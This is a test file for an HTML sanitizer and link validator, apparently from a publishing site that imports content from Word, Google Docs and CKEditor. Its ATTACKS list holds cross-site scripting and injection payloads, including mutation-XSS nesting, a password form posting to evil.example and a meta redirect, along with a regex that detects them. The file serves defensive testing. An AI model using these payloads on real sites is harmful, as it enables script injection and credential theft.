import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isSafeFrame, isSafeLink } from './safe-link.ts';
import { sanitizeContent } from './sanitize-content.ts';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe src="/account" onload=alert(1)></iframe>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.example"><input name="password"></form>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p id="cookie" name="forms" class="x">x</p>',
];
const HARM =
  /<(?:script|svg|math|style|form|input|object|embed|base|meta|template|noscript|xmp|link)\b|<[^>]*\s(?:on\w+|style|srcdoc|id|name|class)\s*=|(?:href|src)="\s*(?:javascript|data|vbscript):|evil\.example/i;

describe('sanitizeContent', () => {
  it.each(ATTACKS)('removes executable content from %s', (html) => {
    expect(sanitizeContent(`<p>before</p>${html}<p>after</p>`)).not.toMatch(HARM);
  });

  it('removes executable content from any combination of attacks, also when applied twice', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.string(),
      fc.constantFrom('<p>', '</p>', '<b', '"', '>', '<!--'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const once = sanitizeContent(pieces.join(''));
        for (const html of [once, sanitizeContent(once)])
          expect(html.replaceAll(/&lt;|&gt;|&quot;/g, '')).not.toMatch(/<script|<[^>]*\son\w+=/i);
      }),
      { numRuns: 300 },
    );
  });

  it.each([
    'A sentence without a tag, in हिन्दी too.',
    '<p>Two</p>\n<p>paragraphs</p>',
    '<h2>Head</h2><ul><li>one</li></ul><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    '<p>5 &lt; 6 &amp; 7</p><p lang="hi">न्याय</p>',
    '<p><a href="/news/gst">here</a> <img src="/uploads/x.jpg" alt="x" width="10" height="20" /></p>',
  ])('does not change %s', (html) => expect(sanitizeContent(html)).toBe(html));

  it('adds rel to external links', () => {
    expect(sanitizeContent('<a href="https://example.in/x">x</a>')).toBe(
      '<a href="https://example.in/x" rel="noopener nofollow">x</a>',
    );
  });

  it.each([
    // Google Docs, a <b> around everything.
    [
      '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-0"><p dir="ltr"><span style="font-weight:400">Plain sentence one.</span></p><br><p dir="ltr"><span style="font-weight:700">Bold words</span><span style="font-style:italic"> italic words</span></p></b>',
      '<span><p dir="ltr"><span>Plain sentence one.</span></p><br /><p dir="ltr"><span><strong>Bold words</strong></span><span><em> italic words</em></span></p></span>',
    ],
    // Word, a footnote.
    [
      '<p class=MsoNormal>Held.<a href="#_ftn1" name="_ftnref1"><span class=MsoFootnoteReference>[1]</span></a></p><hr size=1><div id=ftn1><p class=MsoFootnoteText><a href="#_ftnref1" name="_ftn1">[1]</a> AIR 1950 SC 27.</p></div>',
      '<p>Held.<a href="#t-_ftn1" id="t-_ftnref1"><span><sup>[1]</sup></span></a></p><hr /><div><p><a href="#t-_ftnref1" id="t-_ftn1">[1]</a> AIR 1950 SC 27.</p></div>',
    ],
    // CKEditor, embedded media.
    [
      '<p>Watch:</p><figure class="media"><oembed url="https://www.youtube.com/watch?v=dQw4w9WgXcQ"></oembed></figure><p>end</p>',
      '<p>Watch:</p><figure><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Video" loading="lazy" allowfullscreen></iframe></figure><p>end</p>',
    ],
    [
      '<figure class="media"><oembed url="https://vimeo.com/1?a=1&amp;b=2"></oembed></figure>',
      '<figure><a href="https://vimeo.com/1?a=1&amp;b=2" rel="noopener nofollow">https://vimeo.com/1?a=1&amp;b=2</a></figure>',
    ],
    // CKEditor 4, which has the address as text, and an embedded video whose preview was not saved.
    [
      '<oembed>https://youtu.be/dQw4w9WgXcQ?t=90</oembed>',
      '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=90" title="Video" loading="lazy" allowfullscreen></iframe>',
    ],
    [
      '<figure><div data-oembed-url="https://vimeo.com/1"><div></div></div></figure>',
      '<figure><a href="https://vimeo.com/1" rel="noopener nofollow">https://vimeo.com/1</a></figure>',
    ],
    [
      '<div data-oembed-url="https://youtu.be/dQw4w9WgXcQ"><iframe src="https://youtu.be/dQw4w9WgXcQ"></iframe></div>',
      '<div><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Video" loading="lazy" allowfullscreen></iframe></div>',
    ],
    // Footnotes whose targets have names in Hindi.
    [
      '<p><a href="#%E0%A4%A8%E0%A5%8B%E0%A4%9F_1">1</a> <a href="#पाद">2</a></p><p id="नोट_1">x</p><p id="पाद">y</p>',
      '<p><a href="#t-नोट_1">1</a> <a href="#t-पाद">2</a></p><p id="t-नोट_1">x</p><p id="t-पाद">y</p>',
    ],
    ['<strike>sixty</strike> ninety days', '<s>sixty</s> ninety days'],
    ['<p style="text-align: center; color: red">x</p>', '<p class="align-center">x</p>'],
    ['<p class="has-text-align-right big">x</p>', '<p class="align-right">x</p>'],
    ['<td align="right">1,000</td>', '<td class="align-right">1,000</td>'],
    ['<center>x</center>', '<div class="align-center">x</div>'],
    ['<p style="text-align:left">x</p>', '<p>x</p>'],
    // Pictures of CKEditor and WordPress.
    [
      '<figure class="image image-style-align-center"><img src="/uploads/a.jpg"><figcaption>x</figcaption></figure>',
      '<figure class="align-center"><img src="/uploads/a.jpg" /><figcaption>x</figcaption></figure>',
    ],
    [
      '<figure class="image image-style-side"><img src="/uploads/a.jpg"></figure>',
      '<figure class="align-right"><img src="/uploads/a.jpg" /></figure>',
    ],
    [
      '<figure class="image image_resized image-style-block-align-right"><img src="/uploads/a.jpg"></figure>',
      '<figure class="align-right"><img src="/uploads/a.jpg" /></figure>',
    ],
    [
      '<figure class="wp-block-image aligncenter size-full"><img src="/uploads/a.jpg"></figure>',
      '<figure class="align-center"><img src="/uploads/a.jpg" /></figure>',
    ],
    [
      '<p> <a href="/uploads/b.pdf"><img class="alignright size-full" src="/uploads/a.jpg"></a> </p>',
      '<p class="align-right"> <a href="/uploads/b.pdf"><img src="/uploads/a.jpg" /></a> </p>',
    ],
    ['<p>x <img class="alignright" src="/uploads/a.jpg"></p>', '<p>x <img src="/uploads/a.jpg" /></p>'],
    [
      '<figure class="image image-style-align-left"><img src="/uploads/a.jpg"></figure>',
      '<figure><img src="/uploads/a.jpg" /></figure>',
    ],
    ['<p class="x">x</p>', '<p>x</p>'],
    ['<a href="www.example.in/x">x</a>', '<a href="https://www.example.in/x" rel="noopener nofollow">x</a>'],
    ['<a href="clerk@court.example">x</a>', '<a href="mailto:clerk@court.example">x</a>'],
    [
      '<span style="font-weight:bold;font-style:italic;text-decoration:underline">x</span>',
      '<span><u><em><strong>x</strong></em></u></span>',
    ],
    [
      'H<span style="vertical-align:sub">2</span>O, m<span style="vertical-align:super">2</span>',
      'H<span><sub>2</sub></span>O, m<span><sup>2</sup></span>',
    ],
    ['<p id="cookie">x</p><a id="t-forms">y</a>', '<p>x</p><a id="t-forms">y</a>'],
  ])('adapts what other editors write: %s', (html, adapted) => {
    expect(sanitizeContent(html)).toBe(adapted);
    expect(sanitizeContent(adapted)).toBe(adapted);
  });

  it.each([
    ['https://www.youtube.com/embed/videoseries?list=PLabc', 'embed/videoseries?list=PLabc'],
    ['https://www.youtube.com/embed/dQw4w9WgXcQ?start=90', 'embed/dQw4w9WgXcQ?start=90'],
    ['https://www.youtube.com/live/dQw4w9WgXcQ?si=x', 'embed/dQw4w9WgXcQ'],
  ])('allows the player of %s', (src, player) => {
    expect(sanitizeContent(`<iframe src="${src}"></iframe>`)).toBe(
      `<iframe src="https://www.youtube-nocookie.com/${player}" title="Video" loading="lazy" allowfullscreen></iframe>`,
    );
  });

  it.each([
    'https://www.youtube.com/embed/dQw4w9WgXcQ?autoplay=1',
    'https://youtu.be/dQw4w9WgXcQ',
    'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
    '//www.youtube.com/embed/dQw4w9WgXcQ',
  ])('replaces %s by a youtube-nocookie.com frame', (src) => {
    expect(sanitizeContent(`<iframe src="${src}" onload="x()"></iframe>`)).toBe(
      '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="Video" loading="lazy" allowfullscreen></iframe>',
    );
  });
});

describe('a frame of another site', () => {
  const link = (href: string, text: string) => `<a href="${href}" rel="noopener nofollow">${text}</a>`;

  it.each([
    [
      'src="https://player.vimeo.com/video/1?h=2"',
      'https://player.vimeo.com/video/1?h=2',
      'Video on vimeo.com',
    ],
    [
      'src="https://player.vimeo.com/video/1" title="The bench at 75 <b>"',
      'https://player.vimeo.com/video/1',
      'The bench at 75 &lt;b&gt; (vimeo.com)',
    ],
    [
      'src="//player.vimeo.com/video/1" title="vimeo-player"',
      'https://player.vimeo.com/video/1',
      'Video on vimeo.com',
    ],
    [
      'src="https://docs.google.com/forms/d/e/1/viewform?embedded=true" width="640" height="800"',
      'https://docs.google.com/forms/d/e/1/viewform?embedded=true',
      'Open on docs.google.com',
    ],
    [
      'src="http://www.court.example/cause-list"',
      'http://www.court.example/cause-list',
      'Open on court.example',
    ],
    [
      'src="https://www.youtube.com/embed/live_stream?channel=UC1"',
      'https://www.youtube.com/embed/live_stream?channel=UC1',
      'Video on youtube.com',
    ],
    [
      'src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ" onload="x()"',
      'https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ',
      'Video on youtube.com.evil.example',
    ],
  ])('becomes a link that names the site: %s', (attributes, href, text) => {
    const adapted = `<p>x</p>${link(href, text)}<p>y</p>`;
    expect(sanitizeContent(`<p>x</p><iframe ${attributes}>old browser</iframe><p>y</p>`)).toBe(adapted);
    expect(sanitizeContent(adapted)).toBe(adapted);
  });

  it.each([
    'src="https://count.example/ns.html" height="0" width="0" style="display:none;visibility:hidden"',
    'src="https://count.example/pixel" width="1" height="1"',
    'src="/a"',
    'src="about:blank"',
    'src="https://"',
    'srcdoc="x"',
  ])('is removed where nobody would see it: %s', (attributes) =>
    expect(sanitizeContent(`<p>x</p><iframe ${attributes}></iframe><p>y</p>`)).toBe('<p>x</p><p>y</p>'),
  );
});

describe('isSafeLink', () => {
  it.each(['https://example.in/x', 'http://example.in', '/about', '/a?b=c#d'])('accepts %s', (link) =>
    expect(isSafeLink(link)).toBe(true),
  );
  it.each([
    'javascript:alert(1)',
    ' javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'data:text/html,x',
    '//evil.example',
    '/\\evil.example',
    'https://user@evil.example',
    'ftp://x.example',
    'example.in',
    'https://exa mple.in',
    'mailto:a@b.in',
    '',
  ])('rejects %j', (link) => expect(isSafeLink(link)).toBe(false));
  it('is stricter for frames: TLS, or a path of this site', () => {
    expect(['https://x.example', '/x', 'http://x.example'].map(isSafeFrame)).toEqual([true, true, false]);
  });
});
